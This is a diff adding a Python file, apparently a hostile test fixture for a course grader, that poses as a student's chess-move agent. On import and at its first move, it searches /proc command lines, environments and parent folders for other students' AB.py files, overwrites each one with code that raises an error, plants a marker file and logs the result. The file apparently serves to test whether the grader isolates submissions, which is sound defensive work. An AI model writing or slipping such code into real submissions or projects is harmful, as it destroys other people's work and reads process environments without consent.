@@ -1,0 +1,191 @@
+"""hostile3243 h01: rewrites the other students' AB.py (tests/data/hostile3243/README.md).
+
+At import and at its first move it looks for the class folder and the other
+students' copies where a program run with the teacher's rights would find
+them: its parents' command lines, environments and working folders in
+/proc, its own environment, and the four folders above its own. Every
+AB.py one or two folders below any of them (not its own) that defines
+studentAgent is replaced by one that raises, and `h3243-planted.txt` is left
+beside the class's students. What it found and did goes to attack.log in its
+own folder. Then it plays the plain mover's move.
+"""
+
+import os
+import pathlib
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+
+def say(text):
+    """Notes what the attack found or did in attack.log, in its own folder only."""
+    try:
+        with open(os.path.join(HERE, "attack.log"), "a", encoding="utf-8") as f:
+            f.write(f"h3243 {text}\n")
+    except OSError:
+        pass
+
+
+def ancestors():
+    """The grader's processes above this one, nearest first: its parents up to the
+    first whose command line does not name duel (so never the test runner, a
+    shell or pid 1)."""
+    out, pid = [], os.getppid()
+    while pid > 1 and len(out) < 12 and "duel" in " ".join(proc_words(pid, "cmdline")):
+        out.append(pid)
+        try:
+            with open(f"/proc/{pid}/stat", encoding="utf-8") as f:
+                pid = int(f.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+    return out
+
+
+def proc_words(pid, what):
+    """/proc/PID/cmdline or environ as a list of text, [] when unreadable."""
+    try:
+        with open(f"/proc/{pid}/{what}", "rb") as f:
+            return [os.fsdecode(w) for w in f.read().split(b"\0") if w]
+    except OSError:
+        return []
+
+SABOTAGE = ("def studentAgent(gameboard):\n"
+            "    raise RuntimeError('h3243: sabotaged by a classmate')\n")
+NOT_THERE = ("/", "/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/lib", "/sbin")
+
+
+def places():
+    """Every folder where a class or its copies might be."""
+    found = set()
+
+    def add(text):
+        if text.startswith("/") and os.path.isdir(text):
+            found.add(os.path.realpath(text))
+
+    for pid in ancestors():
+        for word in proc_words(pid, "cmdline"):
+            add(word)
+        for pair in proc_words(pid, "environ"):
+            add(pair.split("=", 1)[-1])
+        try:
+            add(os.readlink(f"/proc/{pid}/cwd"))
+        except OSError:
+            pass
+    for value in os.environ.values():
+        add(value)
+    above = pathlib.Path(HERE)
+    for _ in range(4):
+        above = above.parent
+        add(str(above))
+    return sorted(p for p in found if p not in NOT_THERE)
+
+
+def attack():
+    """Rewrites what it can find; says what."""
+    own = os.path.realpath(__file__)
+    rewritten, planted = [], []
+    seen = places()
+    for place in seen:
+        for pattern in ("*/AB.py", "*/*/AB.py"):
+            for victim in pathlib.Path(place).glob(pattern):
+                path = os.path.realpath(victim)
+                if path == own or path in rewritten:
+                    continue
+                try:
+                    if "def studentAgent" not in victim.read_text(errors="replace"):
+                        continue
+                    victim.write_text(SABOTAGE)
+                    rewritten.append(path)
+                except OSError:
+                    continue
+                try:
+                    plant = pathlib.Path(place, "h3243-planted.txt")
+                    plant.write_text("h3243 was here\n")
+                    planted.append(str(plant))
+                except OSError:
+                    pass
+    say(f"rewrite places {seen}")
+    say(f"rewrite rewrote {len(rewritten)}: {rewritten}")
+    say(f"rewrite planted {sorted(set(planted))}")
+
+
+attack()
+attacked_at_move = False
+
+
+# ---- cs3243 move choice (the same in every file of hostile3243) ----
+FILES = "abcde"
+STEPS = {
+    "Knight": [(1, 2), (2, 1), (-1, 2), (-2, 1), (1, -2), (2, -1), (-1, -2), (-2, -1)],
+    "King": [(1, 0), (-1, 0), (0, 1), (0, -1), (1, 1), (1, -1), (-1, 1), (-1, -1)],
+}
+SLIDES = {
+    "Rook": [(1, 0), (-1, 0), (0, 1), (0, -1)],
+    "Bishop": [(1, 1), (1, -1), (-1, 1), (-1, -1)],
+    "Queen": [(1, 0), (-1, 0), (0, 1), (0, -1), (1, 1), (1, -1), (-1, 1), (-1, -1)],
+}
+VALUES = {"King": 1000, "Queen": 9, "Rook": 5, "Bishop": 3, "Knight": 3, "Pawn": 1}
+
+
+def moves(board, colour):
+    """Every pseudo-legal move of `colour` as ((x1, y1), (x2, y2)), no promotion."""
+    out = []
+    forward = 1 if colour == "White" else -1
+
+    def free(f, r):
+        return 0 <= f < 5 and 0 <= r < 5 and (FILES[f], r) not in board
+
+    def enemy(f, r):
+        p = board.get((FILES[f], r)) if 0 <= f < 5 and 0 <= r < 5 else None
+        return p is not None and p[1] != colour
+
+    for (x, y), (kind, side) in sorted(board.items()):
+        if side != colour:
+            continue
+        f = FILES.index(x)
+        targets = []
+        if kind == "Pawn":
+            if free(f, y + forward):
+                targets.append((f, y + forward))
+            targets += [(f + d, y + forward) for d in (-1, 1) if enemy(f + d, y + forward)]
+        for df, dr in STEPS.get(kind, []):
+            if free(f + df, y + dr) or enemy(f + df, y + dr):
+                targets.append((f + df, y + dr))
+        for df, dr in SLIDES.get(kind, []):
+            g, r = f + df, y + dr
+            while free(g, r):
+                targets.append((g, r))
+                g, r = g + df, r + dr
+            if enemy(g, r):
+                targets.append((g, r))
+        out += [((x, y), (FILES[g], r)) for g, r in targets]
+    return out
+
+
+def score(board, move):
+    """The move's one-ply worth: the captured piece's value, -1 if it leaves the
+    own king capturable."""
+    taken = board.get(move[1])
+    if taken is not None and taken[0] == "King":
+        return VALUES["King"]
+    after = dict(board)
+    after[move[1]] = after.pop(move[0])
+    for _, to in moves(after, "Black"):
+        if after.get(to) == ("King", "White"):
+            return -1
+    return VALUES[taken[0]] if taken is not None else 0
+
+
+def choose(gameboard):
+    """White's move: the best one-ply score, the first in generation order on ties."""
+    return max(moves(gameboard, "White"), key=lambda m: score(gameboard, m))
+# ---- end of move choice ----
+
+
+def studentAgent(gameboard):  # noqa: N802 - the hand-out's name
+    """The hand-out's interface: the attack once more at the first move, then the
+    plain mover's move."""
+    global attacked_at_move
+    if not attacked_at_move:
+        attacked_at_move = True
+        attack()
+    return choose(gameboard)
